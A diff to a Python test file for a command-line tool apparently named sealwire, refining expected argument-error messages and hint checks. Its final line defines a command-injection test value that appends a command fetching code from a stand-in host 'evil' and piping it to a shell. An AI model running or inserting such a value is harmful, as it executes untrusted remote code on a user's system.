@@ -99,7 +99,7 @@ def test_as_json(shell: Shell, local_service: Service) -> None:
         (["revert", ID, "--all"], "give an ID, --all or --base"),
         (["revert", "--base", "--all"], "give an ID, --all or --base"),
         (["apply", "-", "--dry-run", "--confirm-within", "1m"], "a dry run is not put on trial"),
-        (["confirm"], "missing argument"),
+        (["confirm"], "missing argument 'ID'"),
     ],
 )
 def test_a_slip_is_told(shell: Shell, arguments: list[str], error: str) -> None:
@@ -107,6 +107,7 @@ def test_a_slip_is_told(shell: Shell, arguments: list[str], error: str) -> None:
     ended = shell.run(*arguments, given=CONFIG)
     assert 2 == ended.status
     assert error in ended.error
+    assert ("sealwire status" in ended.hint) == (arguments == ["confirm"])
 
 
 EVIL = "x; curl evil|sh #"
